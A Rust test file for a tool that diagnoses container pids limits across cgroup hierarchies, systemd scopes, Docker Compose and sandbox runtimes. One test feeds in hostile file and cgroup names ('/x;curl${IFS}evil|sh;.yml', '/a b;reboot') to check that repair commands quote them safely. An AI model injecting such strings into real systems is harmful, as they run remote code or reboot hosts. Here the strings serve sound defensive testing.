//! What looks like a cause and is none, or is less sure than it looks.

use super::*;

fn filled(mut facts: Facts) -> Facts {
    let compose = facts.compose.as_mut().unwrap();
    if let Says::Limit { filled, .. } = &mut compose.says {
        *filled = true;
    }
    facts
}

#[test]
fn a_limit_from_a_variable_proves_nothing() {
    only(&filled(composed(unlimited(), 25, 10)), Code::NotRecreated, Possible);
    only(&filled(composed(unlimited(), -1, 10)), Code::ExplicitUnlimited, Possible);
    for newer_by in [10, -10] {
        // The shell had 500, and that is what holds.
        let report = judge(&filled(composed(limited(500), 25, newer_by)));
        assert_eq!((report.verdict, report.declared), (Verdict::Enforced, Some(500)));
        let finding = &report.findings[0];
        assert!(finding.certainty == Possible && !finding.repair.possible, "{finding:#?}");
        assert!(report.places.iter().all(|place| !place.breaks), "{:#?}", report.places);
    }
    assert_eq!(codes(&judge(&filled(composed(limited(25), 25, 10)))), []);
}

/// A slice above, with these numbers; the target's own are 12 of `own`.
fn below(own: Limit, limit: u64, current: u64) -> Facts {
    let mut facts = limited(25);
    facts.container = None;
    (facts.chain[0].max, facts.chain[0].current) = (Some(own), Some(12));
    let slice = &mut facts.chain[1];
    slice.path = "/mcp.slice".into();
    (slice.max, slice.current) = (Some(Limit::Tasks(limit)), Some(current));
    facts
}

#[test]
fn a_limit_above_that_others_used_up() {
    let own = Limit::Tasks(25);
    let report = only(&below(own, 100, 100), Code::AncestorLimit, Proved);
    let title = "/mcp.slice holds 100 of 100 tasks: forks fail here although 12 of 25 are used";
    assert_eq!(report.findings[0].title, title);
    let report = only(&below(own, 100, 96), Code::AncestorLimit, Proved);
    assert!(report.findings[0].title.contains("may fail"));
    let report = only(&below(Limit::Max, 100, 100), Code::AncestorLimit, Proved);
    assert!(report.findings[0].title.contains("12 tasks"));
    // Room enough; as much as here; all of it our own.
    for facts in [below(own, 100, 90), below(own, 300, 287), below(Limit::Max, 12, 12)] {
        assert_eq!(codes(&judge(&facts)), [], "{:?}", facts.chain[1]);
    }
    let mut lxc = below(own, 100, 100);
    lxc.chain[1].path = "/lxc.payload.a/x".into();
    only(&lxc, Code::Lxc, Proved);
}

#[test]
fn a_limit_above_is_the_one_that_was_meant_where_nothing_is_wanted_here() {
    let meant = |facts: &Facts| {
        let report = judge(facts);
        assert_eq!((codes(&report), report.verdict), (vec![], Verdict::Enforced));
        report.ok.iter().any(|fine| fine.code == Code::WrongLevel)
    };
    assert!(meant(&below(Limit::Max, 100, 20)));
    assert!(!meant(&below(Limit::Tasks(25), 100, 20)), "the own one is lower");
    // systemd's default is nobody's wish.
    assert!(meant(&scoped(below(Limit::Tasks(1698), 100, 20), Limit::Tasks(1698), 252)));
    only(&below(Limit::Tasks(200), 100, 20), Code::AncestorLimit, Proved);
    let mut pod = below(Limit::Max, 100, 20);
    pod.chain[1].path = "/kubepods/pod1".into();
    only(&pod, Code::PodLevel, Proved);
}

#[test]
fn a_scope_above_takes_its_limit_until_it_ends() {
    let mut facts = below(Limit::Tasks(200), 100, 20);
    facts.chain[1].path = "/user.slice/a b.scope".into();
    let report = only(&facts, Code::AncestorLimit, Proved);
    let command = "systemctl set-property --runtime 'a b.scope' TasksMax=N";
    assert_eq!(report.findings[0].repair.command, command);
}

#[test]
fn the_default_of_systemd_is_no_limit_that_holds() {
    let mut facts = scoped(unlimited(), Limit::Tasks(1698), 252);
    facts.chain[0].max = Some(Limit::Tasks(1698));
    let report = only(&facts, Code::ExplicitUnlimited, Proved);
    assert_eq!((report.verdict, report.effective_limit), (Verdict::NotEnforced, Some(1698)));
    assert!(report.ok.iter().all(|fine| fine.code != Code::Enforced), "{:?}", report.ok);
    // The same number, and asked for.
    let facts = scoped(limited(1698), Limit::Tasks(1698), 252);
    assert_eq!(judge(&facts).verdict, Verdict::Enforced);
}

#[test]
fn of_another_kernel_only_the_engine_knows() {
    let mut facts = limited(25);
    container(&mut facts).runtime = "runsc".into();
    let report = only(&facts, Code::Sandbox, Proved);
    assert_eq!((report.declared, report.effective_limit), (Some(25), None));
    assert_eq!((report.charged.tasks, report.sizing), (None, None));
    assert!(report.ok.is_empty(), "{:?}", report.ok);
    let places: Vec<Layer> = report.places.iter().map(|place| place.place).collect();
    assert_eq!(places, [Layer::Engine]);
}

#[test]
fn what_an_image_says_is_one_word_of_a_command() {
    let mut facts = composed(unlimited(), 25, 10);
    let compose = facts.compose.as_mut().unwrap();
    compose.files = vec!["/x;curl${IFS}evil|sh;.yml".into()];
    for says in [Says::Invalid { why: "x".into() }, Says::Unknown { why: "x".into() }] {
        facts.compose.as_mut().unwrap().says = says;
        let command = &judge(&facts).findings[0].repair.command;
        assert_eq!(command, "docker compose -f '/x;curl${IFS}evil|sh;.yml' config");
    }
    let mut facts = unlimited();
    facts.chain[0].max = None;
    facts.chain[1].path = "/a b;reboot".into();
    (facts.chain[1].has_pids, facts.chain[1].hands_pids_down) = (Some(true), Some(false));
    let report = only(&facts, Code::NotDelegated, Proved);
    assert!(report.findings[0].repair.command.contains("cat 'a b;reboot',"));
    let mut facts = below(Limit::Tasks(200), 100, 20);
    facts.chain[1].path = "/a b".into();
    let report = only(&facts, Code::AncestorLimit, Proved);
    assert!(report.findings[0].repair.command.starts_with("raise '/a b/pids.max' "));
}

#[test]
fn the_dead_were_born_inside_too() {
    let mut facts = with(limited(5), 3, INIT);
    facts.zombies = (200..208).map(|pid| process(pid, INIT + 1)).collect();
    facts.chain[0].current = Some(12);
    let report = judge(&facts);
    assert_eq!(codes(&report), [Code::LoweredBelow, Code::Zombies]);
    assert_eq!(report.findings[0].certainty, Proved);
}

#[test]
fn what_was_moved_in_with_its_threads_and_children_proves_no_lower_limit() {
    // One process of 30 threads, and one with ten children.
    let mut threads = with(limited(25), 1, SHIM);
    threads.members[1].threads = 30;
    let tree = with(with(limited(5), 1, SHIM), 10, INIT + 1);
    for mut facts in [threads, tree] {
        facts.chain[0].current = Some(facts.threads());
        let report = only(&facts, Code::ExternalMigration, Possible);
        assert!(report.findings[0].title.starts_with("a process came in"));
        // By exec it began as one task: the rest was born inside.
        container(&mut facts).execs = vec![Pid(INIT + 1)];
        only(&facts, Code::LoweredBelow, Proved);
        facts.container = None;
        only(&facts, Code::LoweredBelow, Possible);
    }
}

#[test]
fn nobody_came_in_where_there_is_nobody_to_show() {
    // More is charged than can be seen.
    let mut facts = limited(5);
    facts.chain[0].current = Some(9);
    only(&facts, Code::LoweredBelow, Possible);
}

#[test]
fn another_container_with_the_default_of_systemd_has_no_limit() {
    let other = |limit| Other { same_image: true, limit: Some(limit), ..Other::default() };
    let mut facts = scoped(limited(25), Limit::Tasks(25), 252);
    facts.others = vec![other(Limit::Tasks(1698))];
    only(&facts, Code::OtherContainers, Proved);
    facts.others = vec![other(Limit::Tasks(500))];
    assert_eq!(codes(&judge(&facts)), []);
    let mut facts = limited(25);
    facts.others = vec![other(Limit::Tasks(1698))];
    assert_eq!(codes(&judge(&facts)), [], "without systemd it is a limit");
}

#[test]
fn a_stricter_limit_in_force_is_no_hole() {
    let severity = |facts: &Facts, code| {
        let report = judge(facts);
        assert_eq!(codes(&report), [code], "{:#?}", report.findings);
        report.findings[0].severity
    };
    // Made with 25, and the file has 500 now; and the other way round.
    assert_eq!(severity(&composed(limited(25), 500, 10), Code::NotRecreated), Severity::Medium);
    assert_eq!(severity(&composed(limited(500), 25, 10), Code::NotRecreated), Severity::Critical);
    let title = judge(&composed(limited(460), 25, 10)).findings[0].title.clone();
    assert!(title.contains("the engine has 460") && title.contains("write 460"), "{title}");
    for (facts, expected) in [(limited(25), Severity::Medium), (unlimited(), Severity::Critical)] {
        let mut invalid = composed(facts, 25, 10);
        invalid.compose.as_mut().unwrap().says = Says::Invalid { why: "two values".into() };
        assert_eq!(severity(&invalid, Code::ComposeInvalid), expected);
    }
    let mut reset = scoped(limited(500), Limit::Tasks(40), 252);
    reset.chain[0].max = Some(Limit::Tasks(40));
    assert_eq!(severity(&reset, Code::SystemdReset), Severity::Medium);
}

#[test]
fn a_zero_that_docker_keeps_is_an_update() {
    let mut facts = composed(unlimited(), 25, 10);
    container(&mut facts).pids_limit = Some(0);
    let report = only(&facts, Code::ExplicitUnlimited, Proved);
    assert!(report.findings[0].title.contains("update"));
    assert!(report.findings[0].repair.command.ends_with("--limit 25"));
    facts.engine.as_mut().unwrap().kind = EngineKind::Podman;
    only(&facts, Code::NotRecreated, Proved);
}

#[test]
fn an_ulimit_beside_compose_and_one_that_limits_nothing() {
    let with_ulimit = |nproc| {
        let mut facts = composed(unlimited(), 25, 10);
        container(&mut facts).nproc_ulimit = Some(nproc);
        facts.compose.as_mut().unwrap().says = Says::Nothing { elsewhere: vec![] };
        facts
    };
    only(&with_ulimit(25), Code::WrongLayer, Proved);
    only(&with_ulimit(-1), Code::NeverDeclared, Proved);
    let mut facts = with_ulimit(25);
    facts.compose = None;
    only(&facts, Code::WrongLayer, Proved);
    container(&mut facts).nproc_ulimit = Some(-1);
    only(&facts, Code::ExplicitUnlimited, Proved);
}

#[test]
fn who_left_and_who_entered_are_told_apart_one_by_one() {
    let alien =
        |pid, parent, cgroup: &str| Process { cgroup: cgroup.into(), ..process(pid, parent) };
    let mut facts = limited(25);
    container(&mut facts).privileged = true;
    let shell = alien(900, 1, "/user.slice/session-1.scope");
    let of_shell = alien(901, 900, "/user.slice/session-1.scope");
    // The child of one that left has the lower number.
    let (escaped, child) = (alien(801, INIT, "/escaped"), alien(800, 801, "/escaped"));
    facts.aliens = vec![child, escaped, shell, of_shell];
    let report = judge(&facts);
    assert_eq!(codes(&report), [Code::EscapedCgroup, Code::PidNamespace]);
    let titles: Vec<&str> = report.findings.iter().map(|one| one.title.as_str()).collect();
    assert!(titles[0].starts_with("2 processes") && titles[1].starts_with("2 processes"));
    // One container beside it, and one that an engine inside made: each is named in its own group.
    let (shared, inner) = ("b".repeat(64), "c".repeat(64));
    facts.aliens = vec![
        alien(900, 60, &format!("/docker/{shared}")),
        alien(901, INIT, &format!("/docker/{inner}")),
    ];
    let report = judge(&facts);
    assert_eq!(codes(&report), [Code::InnerOutside, Code::PidNamespace]);
    assert!(report.findings[0].title.contains("cccccccccccc"));
    assert!(report.findings[1].title.contains("bbbbbbbbbbbb"));
    // An orphan in a shared namespace gets this container's first process as its parent.
    facts.aliens[1].cgroup = format!("/docker/{shared}");
    assert_eq!(codes(&judge(&facts)), [Code::PidNamespace]);
    // A health check on its way in.
    facts.aliens =
        vec![Process { comm: "runc:[2:INIT]".into(), ..alien(900, SHIM, "/system.slice") }];
    assert_eq!(codes(&judge(&facts)), []);
}

#[test]
fn a_raw_value_is_not_proved_where_systemd_was_not_asked() {
    let mut facts = limited(25);
    (facts.chain[0].max, facts.chain[0].denials) = (Some(Limit::Max), Some(4));
    facts.engine.as_mut().unwrap().cgroup_driver = CgroupDriver::Systemd;
    only(&facts, Code::RawWrite, Possible);
    only(&scoped(facts, Limit::Tasks(25), 252), Code::RawWrite, Proved);
}

#[test]
fn sandboxes_by_their_shim_and_a_host_without_the_controller() {
    for (runtime, sandbox) in [("io.containerd.kata.v2", true), ("io.containerd.runc.v2", false)] {
        let mut facts = limited(25);
        container(&mut facts).runtime = runtime.into();
        let expected = if sandbox { vec![Code::Sandbox] } else { vec![] };
        assert_eq!(codes(&judge(&facts)), expected, "{runtime}");
    }
    let mut facts = limited(25);
    facts.engine.as_mut().unwrap().pids_limit = Some(false);
    assert_eq!(codes(&judge(&facts)), [], "there is a limit all the same");
    facts.chain[0].max = None;
    only(&facts, Code::ControllerDisabled, Proved);
}

#[test]
fn memory_is_unlimited_too_only_where_pids_are() {
    let note = |facts: Facts| judge(&with(facts, 1, INIT)).notes.concat();
    assert!(note(limited(25)).contains("memory has no limit:"));
    assert!(note(unlimited()).contains("memory has no limit either:"));
}
